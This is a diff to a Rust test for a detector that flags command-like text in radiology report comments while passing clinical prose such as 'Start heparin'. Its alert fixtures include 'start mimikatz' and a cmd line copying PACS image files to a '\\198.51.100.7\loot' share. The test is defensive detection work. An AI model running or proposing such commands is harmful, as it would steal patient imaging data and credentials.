@@ -859,7 +859,7 @@ fn report_comments_alert_for_what_cmd_acts_on_and_not_for_prose() {
         "start mimikatz",
         "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
         "evil.msc",
-        "evil.com",
+        "mimikatz.com",
     ];
     let prose = [
         "Start \"Time-out\" /b procedure verified.",
@@ -869,6 +869,9 @@ fn report_comments_alert_for_what_cmd_acts_on_and_not_for_prose() {
         "At 15:20 ipconfig",
         "Shutdown -r delayed due to emergency",
         "copy of report: \\\\PACSRV01\\reports\\2024",
+        "Start heparin",
+        "At 2:00 PM",
+        "Radiology.com",
     ];
     let write = |kind: &str, i: usize, line: &str| {
         let text = format!("Comparison with prior CT.\r\n{line}\r\nNo acute findings.");
